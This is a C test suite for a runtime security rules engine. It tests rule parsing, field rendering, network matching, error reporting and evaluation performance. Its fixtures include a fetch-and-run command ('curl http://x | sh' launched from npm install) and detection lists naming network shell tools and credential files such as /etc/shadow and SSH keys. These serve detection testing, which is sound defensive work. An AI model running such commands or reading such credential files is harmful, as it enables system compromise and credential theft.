	    "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: bad %proc.nam field\n"
	    "  priority: info\n",
	    4, "output: unknown field after '%'");
	EXPECT_ERROR("out3.yaml",
		     "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: ends with %\n"
		     "  priority: info\n",
		     4, "output: unknown field");
}

struct render_case {
	const char *field, *want;
};

static void check_render(const struct sf_event *ev, const struct render_case *cs, size_t n)
{
	char buf[256];
	for (size_t i = 0; i < n; i++) {
		int rc = sf_rules_field_render(cs[i].field, ev, buf, sizeof(buf));
		bool ok =
		    strcmp(buf, cs[i].want) == 0 && (rc == 0) == (strcmp(cs[i].want, "<NA>") != 0);
		if (!ok)
			fprintf(stderr, "  %s: got '%s' (rc %d), want '%s'\n", cs[i].field, buf, rc,
				cs[i].want);
		CHECK(ok);
	}
}

static void test_render(void)
{
	struct sf_event f = file_ev(), c = connect_ev(), s = accept_ev();
	static const struct render_case fc[] = {
	    {"evt.type", "openat"},
	    {"evt.dir", "<"},
	    {"evt.res", "SUCCESS"},
	    {"evt.rawres", "3"},
	    {"evt.failed", "false"},
	    {"evt.time", "22:13:20.123456789"},
	    {"evt.time.s", "22:13:20"},
	    {"evt.time.iso8601", "2023-11-14T22:13:20.123456789Z"},
	    {"evt.datetime", "2023-11-14 22:13:20.123456789"},
	    {"evt.rawtime", "1700000000123456789"},
	    {"evt.rawtime.s", "1700000000"},
	    {"evt.rawtime.ns", "123456789"},
	    {"evt.is_open_read", "true"},
	    {"evt.is_open_write", "false"},
	    {"evt.is_open_exec", "false"},
	    {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
	    {"evt.arg[0]", "3"},
	    {"evt.arg[name]", "/etc/passwd"},
	    {"evt.arg.nope", "<NA>"},
	    {"evt.arg[9]", "<NA>"},
	    {"evt.args", "fd=3 dirfd=AT_FDCWD name=/etc/passwd flags=O_RDONLY|O_CLOEXEC"},
	    {"evt.source", "syscall"},
	    {"proc.name", "sh"},
	    {"proc.exe", "sh"},
	    {"proc.exepath", "/bin/sh"},
	    {"proc.cmdline", "sh -c curl http://x | sh"},
	    {"proc.args", "-c curl http://x | sh"},
	    {"proc.pid", "300"},
	    {"proc.ppid", "200"},
	    {"proc.vpid", "3"},
	    {"proc.pname", "npm"},
	    {"proc.pexe", "npm"},
	    {"proc.pexepath", "/usr/bin/node"},
	    {"proc.pcmdline", "npm install"},
	    {"proc.aname[0]", "sh"},
	    {"proc.aname[1]", "npm"},
	    {"proc.aname[2]", "bash"},
	    {"proc.aname[3]", "<NA>"},
	    {"proc.aname", "npm bash"},
	    {"proc.apid[2]", "100"},
	    {"proc.apid", "200 100"},
	    {"proc.aexepath[1]", "/usr/bin/node"},
	    {"proc.cwd", "/work/pkg/"},
	    {"proc.is_exe_upper_layer", "false"},
	    {"proc.is_exe_writable", "false"},
	    {"user.uid", "1000"},
	    {"user.name", "node"},
	    {"user.loginuid", "-1"},
	    {"group.gid", "1000"},
	    {"group.name", "node"},
	    {"fd.name", "/etc/passwd"},
	    {"fd.directory", "/etc"},
	    {"fd.filename", "passwd"},
	    {"fd.typechar", "f"},
	    {"fd.type", "file"},
	    {"fd.sip", "<NA>"},
	    {"fd.cport", "<NA>"},
	    {"fd.l4proto", "<NA>"},
	    {"fd.is_server", "<NA>"},
	    {"fd.sockfamily", "<NA>"},
	    {"fd.ip", "<NA>"},
	    {"container.id", "c0ffee123456"},
	    {"container.name", "sf-job-1"},
	    {"container.image", "scanfarm/sandbox"},
	    {"container.image.repository", "scanfarm/sandbox"},
	    {"sf.dns.name", "<NA>"},
	};
	check_render(&f, fc, sizeof(fc) / sizeof(fc[0]));
	static const struct render_case cc[] = {
	    {"evt.res", "EINPROGRESS"},
	    {"evt.rawres", "-115"},
	    {"evt.failed", "true"},
	    {"fd.name", "172.17.0.2:40000->198.51.100.7:443"},
	    {"fd.directory", "<NA>"},
	    {"fd.filename", "<NA>"},
	    {"fd.typechar", "4"},
	    {"fd.type", "ipv4"},
	    {"fd.sip", "198.51.100.7"},
	    {"fd.sport", "443"},
	    {"fd.cip", "172.17.0.2"},
	    {"fd.cport", "40000"},
	    {"fd.rip", "198.51.100.7"},
	    {"fd.rport", "443"},
	    {"fd.lip", "172.17.0.2"},
	    {"fd.lport", "40000"},
	    {"fd.ip", "172.17.0.2 198.51.100.7"},
	    {"fd.port", "40000 443"},
	    {"fd.l4proto", "tcp"},
	    {"fd.is_server", "false"},
	    {"fd.sockfamily", "ip"},
	    {"fd.snet", "198.51.100.7"},
	};
	check_render(&c, cc, sizeof(cc) / sizeof(cc[0]));
	static const struct render_case sc[] = {
	    {"fd.rip", "10.1.2.3"}, {"fd.rport", "51000"},    {"fd.lip", "127.0.0.1"},
	    {"fd.lport", "8080"},   {"fd.is_server", "true"},
	};
	check_render(&s, sc, sizeof(sc) / sizeof(sc[0]));
	struct sf_event d = c;
	d.type = "sendto";
	d.dns_name = "evil.example";
	endpoint(&d.server, "2001:db8::53", 53);
	static const struct render_case dc[] = {{"sf.dns.name", "evil.example"},
						{"fd.sip", "2001:db8::53"}};
	check_render(&d, dc, sizeof(dc) / sizeof(dc[0]));
	char buf[32];
	CHECK_EQ(sf_rules_field_render("proc.nope", &f, buf, sizeof(buf)), -ENOENT);
	CHECK_EQ(sf_rules_field_render("proc.name[1]", &f, buf, sizeof(buf)), -EINVAL);
	CHECK_EQ(sf_rules_field_render("evt.arg", &f, buf, sizeof(buf)), -EINVAL);
	CHECK_EQ(sf_rules_field_render("fd.sip", &f, buf, sizeof(buf)), -ENODATA);
	CHECK_EQ(sf_rules_field_render("proc.cmdline", &f, buf, 6), 0);
	CHECK(strcmp(buf, "sh -c") == 0);
}

static void test_cidr(void)
{
	struct sf_event c = connect_ev(), s = accept_ev();
	EXPECT(NULL, &c, 1, "fd.sip = 198.51.100.7");
	EXPECT(NULL, &c, 0, "fd.sip = 198.51.100.8");
	EXPECT(NULL, &c, 1, "fd.sip in (\"198.51.100.7\", 10.0.0.1)");
	EXPECT(NULL, &c, 1, "fd.snet = 198.51.100.0/24");
	EXPECT(NULL, &c, 0, "fd.snet in (\"10.0.0.0/8\", \"192.168.0.0/16\")");
	EXPECT(NULL, &c, 1, "fd.cnet in (\"10.0.0.0/8\", \"172.16.0.0/12\")");
	EXPECT(NULL, &c, 1,
	       "not fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")");
	EXPECT(NULL, &s, 1, "fd.net = \"127.0.0.0/8\""); /* either end */
	EXPECT(NULL, &s, 1, "fd.net = 10.0.0.0/8");
	EXPECT(NULL, &s, 0, "fd.net != 10.0.0.0/8"); /* != must hold for both ends */
	EXPECT(NULL, &c, 1, "fd.net != 10.0.0.0/8");
	EXPECT(NULL, &s, 1, "fd.rnet = 10.0.0.0/8 and fd.lnet = 127.0.0.0/8");
	EXPECT(NULL, &c, 1, "fd.rnet = 198.51.100.0/24 and fd.lnet = 172.16.0.0/12");
	EXPECT(NULL, &s, 1, "fd.ip = 127.0.0.1 and fd.ip = 10.1.2.3");
	EXPECT(NULL, &s, 0, "fd.ip != 127.0.0.1");
	EXPECT(NULL, &c, 1, "fd.port = 443 and fd.port = 40000");
	EXPECT(NULL, &c, 1, "fd.sport in (80, 443) and fd.cport > 1024");
	EXPECT(NULL, &c, 1, "fd.rip = 198.51.100.7 and fd.lip = 172.17.0.2");
	EXPECT(NULL, &s, 1, "fd.rip = 10.1.2.3 and fd.rport = 51000 and fd.lport = 8080");
	struct sf_event v6 = c;
	endpoint(&v6.server, "2001:db8::7", 443);
	endpoint(&v6.client, "::ffff:172.17.0.2", 40000); /* v4-mapped: compares as IPv4 */
	EXPECT(NULL, &v6, 1, "fd.sip = \"2001:db8::7\"");
	EXPECT(NULL, &v6, 1, "fd.snet = \"2001:db8::/32\"");
	EXPECT(NULL, &v6, 0, "fd.snet = \"2001:db9::/32\"");
	EXPECT(NULL, &v6, 0, "fd.snet = 0.0.0.0/0");
	EXPECT(NULL, &v6, 1, "fd.cip = 172.17.0.2");
	EXPECT(NULL, &v6, 1, "fd.cnet = 172.17.0.0/16");
}

static void on_match(void *arg, const struct sf_rule *rule, const struct sf_event *ev)
{
	(void)rule;
	(void)ev;
	++*(int *)arg;
}

static void test_index(void)
{
	char err[1024];
	struct sf_ruleset *rs;
	write_file("idx.yaml", "- macro: opens\n  condition: evt.type in (open, openat)\n"
			       "- rule: open rule\n  desc: d\n  condition: opens and fd.name "
			       "startswith /etc\n  output: o\n"
			       "  priority: info\n"
			       "- rule: not connect\n  desc: d\n  condition: not evt.type = "
			       "connect and proc.name = sh\n"
			       "  output: o\n  priority: info\n"
			       "- rule: mixed not\n  desc: d\n  condition: not (evt.type = openat "
			       "and proc.name = nobody)\n"
			       "  output: o\n  priority: info\n  warn_evttypes: false\n"
			       "- rule: connect or exec\n  desc: d\n  condition: (evt.type = "
			       "connect and fd.sport = 443) or "
			       "(evt.type = execve)\n  output: o\n  priority: info\n"
			       "- rule: all types\n  desc: d\n  condition: proc.name = sh\n  "
			       "output: o\n  priority: info\n"
			       "- rule: never\n  desc: d\n  condition: evt.type = open and "
			       "evt.type = connect\n  output: o\n"
			       "  priority: info\n"
			       "- rule: not in\n  desc: d\n  condition: evt.type != openat and "
			       "evt.type != connect\n  output: o\n"
			       "  priority: info\n");
	int rc = load(&rs, err, sizeof(err), "idx.yaml", NULL, NULL);
	CHECK_EQ(rc, 0);
	if (rc) {
		fprintf(stderr, "%s\n", err);
		return;
	}
	struct sf_event f = file_ev(), c = connect_ev(), o = file_ev();
	o.type = "unlinkat";
	struct sf_rules_ctx ctx;
	int matches = 0;
	/* openat: open rule, not connect, mixed not, all types (4 checked) */
	sf_rules_ctx_init(&ctx);
	CHECK_EQ(sf_rules_eval(rs, &ctx, &f, on_match, &matches), 4);
	CHECK_EQ(matches, 4);
	CHECK_EQ(ctx.checks, 4);
	/* connect: mixed not, connect or exec, all types; open rule not even run */
	sf_rules_ctx_init(&ctx);
	CHECK_EQ(sf_rules_eval(rs, &ctx, &c, NULL, NULL), 3);
	CHECK_EQ(ctx.checks, 3);
	/* a type no rule names: the rules that can match any type */
	sf_rules_ctx_init(&ctx);
	CHECK_EQ(sf_rules_eval(rs, &ctx, &o, NULL, NULL),
		 4); /* not connect, mixed not, all types, not in */
	CHECK_EQ(ctx.checks, 4);
	struct sf_event nt = f;
	nt.type = NULL;
	sf_rules_ctx_init(&ctx);
	CHECK_EQ(sf_rules_eval(rs, &ctx, &nt, NULL, NULL),
		 3); /* evt.type checks are false when it is missing */
	CHECK(sf_rule_all_types(sf_rules_find(rs, "all types")));
	CHECK(!sf_rule_all_types(sf_rules_find(rs, "open rule")));
	CHECK(strstr(sf_rules_warnings(rs), "'all types' has no evt.type restriction") != NULL);
	CHECK(strstr(sf_rules_warnings(rs), "'mixed not'") == NULL); /* warn_evttypes: false */
	CHECK(strstr(sf_rules_warnings(rs), "'never' can never match") != NULL);
	sf_rules_free(rs);
}

static void test_errors(void)
{
	const char *rule_tail = "  output: o\n  priority: info\n";
	char text[2048];
	EXPECT_ERROR("e01.yaml", "- rule: a\n  desc: d\n  condition: [unclosed\n", 4, "YAML error");
	EXPECT_ERROR("e02.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n bad: indent\n",
		     4, "YAML error");
	snprintf(text, sizeof(text),
		 "# comment\n- rule: a\n  desc: d\n  condition: proc.nmae = x\n%s", rule_tail);
	EXPECT_ERROR("e03.yaml", text, 4, "unknown field 'proc.nmae' at column 1");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: (proc.name = x and (fd.name = y)\n%s",
		 rule_tail);
	EXPECT_ERROR("e04.yaml", text, 3, "expected ')'");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name = x)\n%s",
		 rule_tail);
	EXPECT_ERROR("e05.yaml", text, 3, "unexpected token");
	snprintf(text, sizeof(text),
		 "- macro: m\n  condition: evt.type = x\n\n- rule: a\n  desc: d\n"
		 "  condition: m and no_such_macro\n%s",
		 rule_tail);
	EXPECT_ERROR("e06.yaml", text, 6, "undefined macro 'no_such_macro' at column 7");
	EXPECT_ERROR("e07.yaml", "- rule: a\n  desc: d\n  output: o\n  priority: info\n", 1,
		     "missing 'condition'");
	EXPECT_ERROR(
	    "e08.yaml",
	    "- rule: a\n  condition: evt.type = x\n  desc: d\n  output: o\n  priority: loud\n", 5,
	    "unknown priority 'loud'");
	EXPECT_ERROR("e09.yaml", "- list: l\n  items: []\n- rulez: a\n  desc: d\n", 3,
		     "unknown top-level item 'rulez'");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.pid contains 3\n%s",
		 rule_tail);
	EXPECT_ERROR("e10.yaml", text, 3,
		     "operator 'contains' is not supported for numeric field 'proc.pid'");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: evt.is_open_read startswith t\n%s", rule_tail);
	EXPECT_ERROR("e11.yaml", text, 3, "operator 'startswith' is not supported for boolean");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: proc.name bcontains 616\n%s", rule_tail);
	EXPECT_ERROR("e12.yaml", text, 3, "not an even number of hex digits");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: proc.name in no_such_list\n%s", rule_tail);
	EXPECT_ERROR("e13.yaml", text, 3, "undefined list 'no_such_list'");
	EXPECT_ERROR("e14.yaml",
		     "- rule: a\n  desc: d\n  condition: x\n  output: o\n  priority: info\n"
		     "- rule: b\n  condition: and y\n  append: true\n",
		     6, "append to a rule that is not defined");
	EXPECT_ERROR("e15.yaml", "- macro: a\n  condition: x\n  append: true\n", 1,
		     "append to a macro that is not defined");
	EXPECT_ERROR("e16.yaml", "- list: a\n  items: [x]\n  append: true\n", 1,
		     "append to a list that is not defined");
	/* literal block: the line of the token inside the block */
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: |\n    evt.type = openat\n"
		 "    and proc.name = sh\n    and fd.nam = x\n%s",
		 rule_tail);
	EXPECT_ERROR("e17.yaml", text, 6, "unknown field 'fd.nam' at column 5");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sport = http\n%s",
		 rule_tail);
	EXPECT_ERROR("e18.yaml", text, 3, "'http' is not a valid numeric value for fd.sport");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.snet = 10.0.0.0/33\n%s",
		 rule_tail);
	EXPECT_ERROR("e19.yaml", text, 3, "is not a valid network");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: fd.sip = 10.0.0.0/8\n%s",
		 rule_tail);
	EXPECT_ERROR("e20.yaml", text, 3, "is not a valid IP address");
	/* a macro's own error is reported at the macro, even when unused */
	EXPECT_ERROR(
	    "e21.yaml",
	    "- macro: ok\n  condition: evt.type = x\n- macro: broken\n  condition: (evt.type = x\n",
	    4, "macro 'broken': expected ')'");
	/* an unknown field in a macro only matters to the rules that use it */
	snprintf(
	    text, sizeof(text),
	    "- macro: m\n  condition: proc.bogus = 1\n- rule: a\n  desc: d\n  condition: m\n%s",
	    rule_tail);
	EXPECT_ERROR("e22.yaml", text, 2, "macro 'm': unknown field 'proc.bogus'");
	EXPECT_ERROR("e23.yaml", "- macro: a\n  condition: b\n- macro: b\n  condition: a\n", 1,
		     "refers to itself");
	EXPECT_ERROR(
	    "e24.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "  exceptions:\n    - name: e\n      fields: [proc.nope]\n      values: [[x]]\n",
	    7, "'proc.nope' is not a supported filter field");
	EXPECT_ERROR(
	    "e25.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "  exceptions:\n    - name: e\n      fields: [proc.name, fd.name]\n      values: "
	    "[[x]]\n",
	    7, "each value must be a list as long as fields");
	EXPECT_ERROR(
	    "e26.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "  enabeld: false\n",
	    6, "unknown key 'enabeld'");
	EXPECT_ERROR("e27.yaml", "rule: a\n", 1, "must be a YAML sequence");
	EXPECT_ERROR(
	    "e28.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "  exceptions:\n    - name: e\n      fields: [proc.name]\n      comps: [like]\n",
	    7, "'like' is not a supported comparison operator");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: tolower(proc.name) = sh\n%s", rule_tail);
	EXPECT_ERROR("e29.yaml", text, 3, "field transformers are not supported");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: proc.name = \"unterminated\n%s", rule_tail);
	EXPECT_ERROR("e30.yaml", text, 3, "unterminated string");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name =\n%s",
		 rule_tail);
	EXPECT_ERROR("e31.yaml", text, 3, "expected a value");
	snprintf(text, sizeof(text),
		 "- rule: a\n  desc: d\n  condition: proc.name = a andx proc.name = b\n%s",
		 rule_tail);
	EXPECT_ERROR("e32.yaml", text, 3, "unexpected token");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name\n%s", rule_tail);
	EXPECT_ERROR("e33.yaml", text, 3, "expected an operator");
	snprintf(text, sizeof(text), "- rule: a\n  desc: d\n  condition: proc.name < t\n%s",
		 rule_tail);
	EXPECT_ERROR("e37.yaml", text, 3, "expected a number at column 13");
	EXPECT_ERROR(
	    "e34.yaml",
	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
	    "  source: k8s_audit\n- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n"
	    "  priority: info\n  source: syscall\n",
	    7, "re-defined with a different source");
	EXPECT_ERROR("e35.yaml", "- rule: a\n  enabled: true\n", 1, "no rule by that name exists");
	/* invalid UTF-8 is a YAML reader error: located by offset */
	EXPECT_ERROR("e36.yaml", "- list: a\n  items: [x]\n- list: b\n  items: [\xff]\n", 4,
		     "YAML error");

	/* the second file's error names the second file */
	char err[1024];
	struct sf_ruleset *rs;
	write_file("ok.yaml", "- list: l\n  items: [a]\n");
	write_file("bad.yaml", "- list: m\n  items: [a]\n- macro: x\n");
	int rc = load(&rs, err, sizeof(err), "ok.yaml", "bad.yaml", NULL);
	char want[256];
	snprintf(want, sizeof(want), "%s/bad.yaml:3: macro 'x': missing 'condition'", dir);
	CHECK(rc == -EINVAL && strcmp(err, want) == 0);
	if (rc == 0 || strcmp(err, want) != 0)
		fprintf(stderr, "  got '%s'\n  want '%s'\n", err, want);
	rc = load(&rs, err, sizeof(err), "missing.yaml", NULL, NULL);
	CHECK(rc == -ENOENT && strstr(err, "missing.yaml: No such file"));
}

static void test_dir_digest(void)
{
	char err[1024], sub[128], d1[SF_SHA256_HEX + 1];
	struct sf_ruleset *rs, *rs2;
	snprintf(sub, sizeof(sub), "%s/rules.d", dir);
	mkdir(sub, 0755);
	write_file("rules.d/20-local.yml",
		   "- rule: r\n  condition: and proc.name = sh\n  append: true\n");
	write_file("rules.d/10-base.yaml", "- rule: r\n  desc: d\n  condition: evt.type = openat\n "
					   " output: o\n  priority: info\n");
	write_file("rules.d/README.md", "not rules");
	const char *paths[] = {sub};
	int rc = sf_rules_load(&rs, paths, 1, err, sizeof(err));
	CHECK_EQ(rc, 0);
	if (rc) {
		fprintf(stderr, "%s\n", err);
		return;
	}
	CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "r")),
		     "evt.type = openat and proc.name = sh") == 0);
	CHECK_EQ(strlen(sf_rules_digest(rs)), SF_SHA256_HEX);
	snprintf(d1, sizeof(d1), "%s", sf_rules_digest(rs));
	rc = sf_rules_load(&rs2, paths, 1, err, sizeof(err));
	CHECK(rc == 0 && strcmp(sf_rules_digest(rs2), d1) == 0);
	if (!rc)
		sf_rules_free(rs2);
	write_file("rules.d/20-local.yml",
		   "- rule: r\n  condition: and proc.name = bash\n  append: true\n");
	rc = sf_rules_load(&rs2, paths, 1, err, sizeof(err));
	CHECK(rc == 0 && strcmp(sf_rules_digest(rs2), d1) != 0);
	if (!rc)
		sf_rules_free(rs2);
	/* the same bytes under another path but the same name: same digest */
	const char *text = "- list: l\n  items: [a]\n";
	struct sf_ruleset *b1, *b2;
	CHECK_EQ(sf_rules_load_buffer(&b1, "/a/x.yaml", text, strlen(text), err, sizeof(err)), 0);
	CHECK_EQ(sf_rules_load_buffer(&b2, "/b/x.yaml", text, strlen(text), err, sizeof(err)), 0);
	CHECK(strcmp(sf_rules_digest(b1), sf_rules_digest(b2)) == 0);
	sf_rules_free(b2);
	CHECK_EQ(sf_rules_load_buffer(&b2, "/b/y.yaml", text, strlen(text), err, sizeof(err)), 0);
	CHECK(strcmp(sf_rules_digest(b1), sf_rules_digest(b2)) != 0);
	sf_rules_free(b1);
	sf_rules_free(b2);
	/* empty files and documents are fine; several documents in one file too */
	CHECK_EQ(sf_rules_load_buffer(&b1, "empty.yaml", "", 0, err, sizeof(err)), 0);
	CHECK_EQ(sf_rules_count(b1), 0);
	sf_rules_free(b1);
	const char *multi =
	    "- list: l\n  items: [sh]\n---\n- rule: r\n  desc: d\n  condition: proc.name in (l)\n"
	    "  output: o\n  priority: info\n";
	CHECK_EQ(sf_rules_load_buffer(&b1, "multi.yaml", multi, strlen(multi), err, sizeof(err)),
		 0);
	CHECK_EQ(sf_rules_count(b1), 1);
	sf_rules_free(b1);
	sf_rules_free(rs);
}

/* A ruleset shaped like what scanfarm ships: many rules, lists, macros. */
static const char *bench_rules =
    "- list: shell_binaries\n  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]\n"
    "- list: net_tools\n  items: [curl, wget, nc, ncat, netcat, socat, ssh, scp]\n"
    "- list: sensitive_files\n  items: [/etc/shadow, /etc/sudoers, /etc/pam.conf, "
    "/root/.ssh/id_rsa]\n"
    "- list: cred_dirs\n  items: [/root/.ssh, /home, /root/.aws, /root/.npmrc]\n"
    "- macro: spawned_process\n  condition: evt.type in (execve, execveat)\n"
    "- macro: open_read\n  condition: evt.type in (open, openat, openat2) and evt.is_open_read = "
    "true\n"
    "- macro: open_write\n  condition: evt.type in (open, openat, openat2) and evt.is_open_write = "
    "true\n"
    "- macro: outbound\n  condition: evt.type = connect and fd.typechar in (4, 6) and not fd.snet "
    "in "
    "(\"127.0.0.0/8\", \"10.0.0.0/8\")\n"
    "- rule: shell\n  desc: d\n  condition: spawned_process and proc.name in (shell_binaries) and "
    "proc.pname in (node, npm)\n  output: '%proc.cmdline'\n  priority: warning\n"
    "- rule: nettool\n  desc: d\n  condition: spawned_process and proc.name in (net_tools)\n"
    "  output: o\n  priority: warning\n"
    "- rule: sensitive\n  desc: d\n  condition: open_read and fd.name in (sensitive_files)\n  "
    "output: o\n"
    "  priority: error\n"
    "- rule: creds\n  desc: d\n  condition: open_read and fd.name pmatch (cred_dirs)\n  output: o\n"
    "  priority: error\n"
    "- rule: write etc\n  desc: d\n  condition: open_write and fd.name startswith /etc\n  output: "
    "o\n"
    "  priority: error\n"
    "- rule: outbound\n  desc: d\n  condition: outbound and not proc.aname in (git)\n  output: o\n"
    "  priority: notice\n"
    "- rule: glob\n  desc: d\n  condition: open_write and fd.name glob '/tmp/*.sh'\n  output: o\n"
    "  priority: notice\n"
    "- rule: cmdline\n  desc: d\n  condition: spawned_process and proc.cmdline icontains base64\n"
    "  output: o\n  priority: notice\n";

static void test_no_alloc_and_speed(void)
{
	char err[1024];
	struct sf_ruleset *rs;
	char yaml[65536];
	size_t off = (size_t)snprintf(yaml, sizeof(yaml), "%s", bench_rules);
	for (int i = 0; i < 32; i++) /* 40 rules in all */
		off += (size_t)snprintf(
		    yaml + off, sizeof(yaml) - off,
		    "- rule: extra %d\n  desc: d\n  condition: open_read and fd.name startswith "
		    "/opt/%d and proc.name != x%d\n  output: o\n  priority: info\n",
		    i, i, i);
	int rc = sf_rules_load_buffer(&rs, "bench.yaml", yaml, off, err, sizeof(err));
	CHECK_EQ(rc, 0);
	if (rc) {
		fprintf(stderr, "%s\n", err);
		return;
	}
	CHECK_EQ(sf_rules_count(rs), 40);
	struct sf_event evs[4] = {file_ev(), connect_ev(), file_ev(), file_ev()};
	evs[2].type = "execve";
	evs[2].fd_type = SF_FD_NONE;
	evs[2].fd_name = NULL;
	evs[3].fd_name = "/root/.ssh/id_rsa";
	struct sf_rules_ctx *ctx = malloc(sizeof(*ctx));
	sf_rules_ctx_init(ctx);
	int matches = 0;
	unsigned long before = allocs;
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	const int n = 400000;
	for (int i = 0; i < n; i++)
		matches += sf_rules_eval(rs, ctx, &evs[i & 3], NULL, NULL);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	unsigned long during = allocs - before;
	CHECK_EQ(during, 0);
	CHECK_EQ(matches, n); /* per 4 events: -, outbound, shell, sensitive + creds */
	double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	fprintf(stderr,
		"eval: %d events, %.0f events/s, %.1f rule checks per event, %lu allocations\n", n,
		(double)n / s, (double)ctx->checks / (double)n, during);
	/* macro results are per event: shared by rules, never carried over */
	sf_rules_ctx_init(ctx);
	ctx->gen = UINT32_MAX - 1; /* the stamp generation wraps in the loop */
	for (int i = 0; i < 8; i++) {
		int m = sf_rules_eval(rs, ctx, &evs[i & 3], NULL, NULL);
		CHECK_EQ(m, (i & 3) == 3 ? 2 : (i & 3) ? 1 : 0);
	}
	/* sanity of the wrap itself */
	before = allocs;
	void *volatile probe = malloc(1);
	free(probe);
	CHECK_EQ(allocs - before, 1);
	free(ctx);
	sf_rules_free(rs);
}

int main(void)
{
	snprintf(dir, sizeof(dir), "/tmp/rules_test.XXXXXX");
	if (!mkdtemp(dir))
		SKIP("mkdtemp failed");
	test_operators();
	test_missing();
	test_precedence();
	test_macros_lists();
	test_exceptions();
	test_append_override();
	test_enabled();
	test_versions_sources();
	test_output();
	test_render();
	test_cidr();
	test_index();
	test_errors();
	test_dir_digest();
	test_no_alloc_and_speed();
	sf_rmtree(dir);
	TEST_DONE();
}
